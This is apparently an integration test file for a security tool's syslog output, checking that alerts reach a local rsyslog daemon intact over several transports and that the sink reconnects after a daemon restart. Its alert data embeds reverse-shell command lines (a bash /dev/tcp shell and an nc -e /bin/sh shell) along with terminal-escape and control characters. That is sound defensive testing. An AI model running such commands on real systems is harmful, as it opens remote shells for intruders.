import { hostname } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SinkStartError } from '../../src/outputs/errors.js';
import { SyslogSink, type SyslogSinkOptions, type SyslogTransportKind } from '../../src/outputs/syslog-sink.js';
import { RsyslogDaemon, rsyslogUnavailable, type ReceivedMessage } from './rsyslog-daemon.js';
import { inCi } from '../support/require-tools.js';

const skipReason = rsyslogUnavailable();
if (skipReason) console.warn(`skipping syslog sink tests: ${skipReason}`);

/** RFC 5424: <PRI>VERSION SP TIMESTAMP SP HOSTNAME SP APP-NAME SP PROCID SP MSGID SP SD SP MSG */
const RFC5424 = /^<(\d{1,3})>1 (\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d{1,6})?(?:Z|[+-]\d\d:\d\d)) (\S{1,255}) (\S{1,48}) (\S{1,128}) (\S{1,32}) (-|\[.*?\]) (.*)$/s;

const HOSTILE = 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n\u001b[2J\u001b]0;pwned\u0007 "quoted" \\ \u009b31m \u2028 \u202e gnp.exe 🐚 \ud800';
const FACILITY_LOCAL3 = 19;

function alert(marker: string, severity: string | number, commandLine: string): Record<string, unknown> {
  return {
    '@timestamp': '2025-03-01T10:00:00.000Z',
    event: { kind: 'alert', id: marker, severity },
    rule: { name: 'Potential Reverse Shell via Background Process' },
    process: { pid: 4242, name: 'bash', command_line: commandLine, parent: { pid: 4240, name: 'setsid' } },
  };
}

function parseRfc5424(raw: string): { pri: number; hostname: string; app: string; procid: string; msgid: string; sd: string; msg: string } {
  const match = RFC5424.exec(raw);
  if (!match) throw new Error(`not an RFC 5424 message: ${raw}`);
  return { pri: Number(match[1]), hostname: match[3], app: match[4], procid: match[5], msgid: match[6], sd: match[7], msg: match[8] };
}

const FAST_RETRY = { retries: 20, baseDelayMs: 20, maxDelayMs: 200 };

// .ci/run installs rsyslog: in CI a missing daemon is a failure, not a skip.
if (skipReason !== null && inCi) it('has rsyslogd to test against', () => expect.fail(`${skipReason}, and CI=true forbids skipping`));

describe.skipIf(skipReason !== null)('SyslogSink against rsyslogd', () => {
  let daemon: RsyslogDaemon;

  beforeAll(async () => {
    daemon = await RsyslogDaemon.start();
  });

  afterAll(async () => {
    await daemon?.stop();
  });

  function optionsFor(transport: SyslogTransportKind): SyslogSinkOptions {
    const common = { facility: 'local3', hostname: 'sensor-01', retry: FAST_RETRY };
    switch (transport) {
      case 'udp':
        return { ...common, transport, host: '127.0.0.1', port: daemon.udpPort };
      case 'tcp':
        return { ...common, transport, host: '127.0.0.1', port: daemon.tcpPort };
      case 'unix':
        return { ...common, transport, path: daemon.dgramSocket };
      case 'unix-stream':
        return { ...common, transport, path: daemon.streamSocket };
    }
  }

  it.each(['udp', 'tcp', 'unix', 'unix-stream'] as const)('delivers alerts intact as RFC 5424 over %s', async (transport) => {
    const marker = `marker-${transport}-${process.pid}`;
    const sink = new SyslogSink(optionsFor(transport));
    await sink.start();
    const high = alert(marker, 'high', HOSTILE);
    const critical = alert(marker, 99, 'nc -e /bin/sh 10.0.0.1 4444');
    sink.write(high);
    sink.write(critical);
    await sink.close(5_000);
    expect(sink.stats()).toMatchObject({ name: 'syslog', written: 2, dropped: 0, failures: 0, queued: 0 });

    const received: ReceivedMessage[] = await daemon.waitFor(marker, 2);
    const parsed = received.map((message) => parseRfc5424(message.raw));
    // Same order as written; each message is the whole document.
    expect(parsed.map((p) => JSON.parse(p.msg))).toEqual([high, critical]);
    expect(parsed.map((p) => p.pri)).toEqual([FACILITY_LOCAL3 * 8 + 3, FACILITY_LOCAL3 * 8 + 2]);
    for (const p of parsed) {
      expect(p).toMatchObject({ app: 'execwarden', procid: String(process.pid), msgid: 'alert', sd: '-' });
      // logger (unix datagram) writes the host's own name.
      expect(p.hostname).toBe(transport === 'unix' ? hostname() : 'sensor-01');
    }
    // rsyslog itself parsed the header as RFC 5424.
    for (const message of received) {
      expect(message).toMatchObject({ version: '1', app: 'execwarden', msgid: 'alert', procid: String(process.pid) });
    }
    expect(received[0].pri).toBe(String(FACILITY_LOCAL3 * 8 + 3));
  });

  it.each(['tcp', 'unix-stream', 'unix'] as const)('reconnects over %s after the daemon restarts', async (transport) => {
    const marker = `restart-${transport}-${process.pid}`;
    const sink = new SyslogSink(optionsFor(transport));
    await sink.start();
    sink.write(alert(`${marker}-before`, 'low', 'id'));
    await daemon.waitFor(`${marker}-before`, 1);
    await daemon.restart();
    // The first write after the restart may be lost with the old connection (counted); keep
    // writing until one arrives through a new connection.
    let arrived: ReceivedMessage[] = [];
    for (let i = 0; i < 100 && arrived.length === 0; i += 1) {
      sink.write(alert(`${marker}-after`, 'low', `id ${i}`));
      await new Promise((resolve) => setTimeout(resolve, 100));
      arrived = await daemon.received(`${marker}-after`);
    }
    await sink.close(2_000);
    expect(arrived.length).toBeGreaterThan(0);
    const stats = sink.stats();
    expect(stats.written + stats.dropped).toBeGreaterThanOrEqual(1 + arrived.length);
  });

  it('rejects start() with a coded error when nothing listens', async () => {
    const tcp = new SyslogSink({ transport: 'tcp', host: '127.0.0.1', port: 1 });
    await expect(tcp.start()).rejects.toMatchObject({ code: 'OUTPUT_START_FAILED' });
    const unix = new SyslogSink({ transport: 'unix', path: `${daemon.dir}/missing.sock` });
    const error = await unix.start().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(SinkStartError);
    expect((error as SinkStartError).message).toMatch(/missing\.sock/);
    await tcp.close(0);
    await unix.close(0);
  });
});
